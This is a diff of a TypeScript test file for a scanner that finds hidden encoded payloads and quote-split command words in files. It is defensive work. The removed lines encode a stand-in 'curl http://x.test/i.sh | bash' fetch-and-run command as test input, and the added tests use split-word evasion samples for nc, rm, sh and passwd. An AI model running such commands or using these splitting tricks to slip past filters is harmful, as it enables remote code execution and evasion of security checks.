@@ -1,54 +1,85 @@
 import test from 'ava';
 import * as fc from 'fast-check';
 import { pairsIn } from '../../../src/detect/hidden/neighbours.ts';
-import { createSurvey, plainSurvey, splitPairs, type SurveyBytes } from '../../../src/detect/hidden/survey.ts';
-import { KIND, PLACE_BYTES } from '../../../src/detect/hidden/survey-program.ts';
+import { KIND, SURVEY_BYTES } from '../../../src/detect/hidden/survey-program.ts';
+import { createSurvey, plainSurvey, splitPairs, type Entries, type Survey } from '../../../src/detect/hidden/survey.ts';
 import { ANCHORS } from '../../../src/detect/rules/index.ts';
 
 const neighbours = pairsIn(ANCHORS);
-const fast = createSurvey(neighbours);
+const survey = createSurvey(neighbours);
 const pairs = splitPairs(neighbours);
-const plain: SurveyBytes = (bytes, entries) => plainSurvey(pairs, bytes, entries);
 
-function offsets(survey: SurveyBytes, text: string | Buffer, kind: number): number[] {
-  const entries: number[] = [];
-  const { count } = survey(Buffer.from(text), entries);
-  return entries.slice(0, count).flatMap((entry) => ((entry & 3) === kind ? [Math.floor(entry / 4)] : []));
+interface Seen extends Survey {
+  readonly of: (kind: number) => number[];
 }
 
-for (const [name, survey] of Object.entries({ fast, plain })) {
-  test(`${name}: sees zeros and what is above ASCII`, (t) => {
-    t.like(survey(Buffer.from('abc'), []), { hasZero: false, hasHigh: false });
-    t.like(survey(Buffer.from('a\0c'), []), { hasZero: true, hasHigh: false });
-    t.like(survey(Buffer.from('a\u00e9c'), []), { hasZero: false, hasHigh: true });
-  });
-
-  test(`${name}: finds a place in every encoded text, wherever it begins`, (t) => {
-    for (let before = 0; before < 40; before++) {
-      const lead = `${' '.repeat(before)}"`;
-      const coded = Buffer.from('curl http://x.test/i.sh | bash').toString('base64');
-      const digits = Buffer.from('curl http://x.test/i.sh | bash').toString('hex');
-      t.true(offsets(survey, `${lead}${coded}"`, KIND.base64).length > 0, `base64 behind ${before}`);
-      t.true(offsets(survey, `${lead}${digits}"`, KIND.hex).length > 0, `hex behind ${before}`);
-    }
-  });
-
-  test(`${name}: finds marks that split the word of an anchor`, (t) => {
-    t.true(offsets(survey, "run n''c x 80", KIND.split).length > 0);
-    t.deepEqual(offsets(survey, 'nothing is split in here', KIND.split), []);
-  });
+function seen(bytes: Uint8Array, look = survey): Seen {
+  const entries: Entries = [];
+  const found = look(bytes, entries);
+  const own = entries.slice(0, found.count);
+  return { ...found, of: (kind) => own.filter((entry) => (entry & 3) === kind).map((entry) => entry >> 2) };
 }
 
-test('both surveys see the same splits, and the fast one no place that the plain one misses', (t) => {
-  const words = fc.constantFrom("c''url ", 'b"a"sh ', 'word ', Buffer.from('a hidden text').toString('base64'), '\n');
+const plain = (bytes: Uint8Array): Seen => seen(bytes, (one, entries) => plainSurvey(pairs, one, entries));
+
+const piece = fc.oneof(
+  fc.uint8Array({ maxLength: 20 }).map((bytes) => Buffer.from(bytes)),
+  fc.base64String({ maxLength: 80 }).map((text) => Buffer.from(text)),
+  fc.stringMatching(/^[0-9a-f]{0,60}$/).map((text) => Buffer.from(text)),
+  fc
+    .constantFrom("n''c", 'r\\m', "pa'ss'wd", 'p\\"\\"a', 'r\\\\\\\\m', "it's", 'a\\nb', '{"a":"b"}')
+    .map((text) => Buffer.from(text)),
+  fc.constantFrom(SURVEY_BYTES - 20, SURVEY_BYTES).map((length) => Buffer.alloc(length, ' ')),
+);
+
+test('both kinds of survey see the same, the plain one more places', (t) => {
   fc.assert(
-    fc.property(fc.array(words, { maxLength: 80 }), (all) => {
-      const text = all.join('');
-      t.deepEqual(offsets(fast, text, KIND.split), offsets(plain, text, KIND.split));
-      const known = offsets(plain, text, KIND.base64);
-      const isNear = (at: number): boolean => known.some((other) => Math.abs(other - at) <= PLACE_BYTES);
-      t.true(offsets(fast, text, KIND.base64).every(isNear));
+    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+      const bytes = Buffer.concat(pieces);
+      const [fast, slow] = [seen(bytes), plain(bytes)];
+      t.is(fast.hasZero, slow.hasZero);
+      t.is(fast.hasHigh, slow.hasHigh);
+      t.deepEqual(fast.of(KIND.split), slow.of(KIND.split));
+      for (const kind of [KIND.base64, KIND.hex]) {
+        const places = new Set(slow.of(kind));
+        t.deepEqual(
+          fast.of(kind).filter((place) => !places.has(place)),
+          [],
+        );
+      }
     }),
-    { numRuns: 50 },
+    { numRuns: 300 },
   );
+});
+
+const ascii = fc.string({ minLength: 18, maxLength: 60 }).map((text) => Buffer.from(text));
+const around = fc.string({ maxLength: 40 }).map((text) => Buffer.from(` ${text} `));
+
+for (const [coding, kind, least] of [
+  ['base64', KIND.base64, 23],
+  ['base64url', KIND.base64, 23],
+  ['hex', KIND.hex, 23],
+] as const) {
+  test(`every run of ${coding} that is long enough and stands for ASCII holds a place`, (t) => {
+    fc.assert(
+      fc.property(ascii, around, around, fc.nat(SURVEY_BYTES), (text, before, after, blanks) => {
+        const coded = Buffer.from(text.toString(coding).replaceAll('=', ''));
+        const cut = coded.subarray(0, Math.max(least, coded.length - (blanks % 4)));
+        const bytes = Buffer.concat([Buffer.alloc(blanks, ' '), before, cut, after]);
+        const from = blanks + before.length;
+        for (const look of [seen(bytes), plain(bytes)]) {
+          t.true(look.of(kind).some((place) => place >= from && place + 16 <= from + cut.length));
+        }
+      }),
+      { numRuns: 150 },
+    );
+  });
+}
+
+test('marks that split a word of an anchor, and others', (t) => {
+  const splits = (text: string): number => seen(Buffer.from(text)).of(KIND.split).length;
+  for (const text of ["n''c", 'n"c', 'r\\m', 'r\\\\m', 'p\\"\\"a', '/"passwd"', 'r\\\\\\\\m', 's"h"'])
+    t.true(splits(text) > 0, text);
+  for (const text of ["it's", '{"a":"b","c":""}', 'a\\nb\\tc', 'a\\/passwd', '\\\\\\"word\\\\\\":', 'x"y'])
+    t.is(splits(text), 0, text);
 });
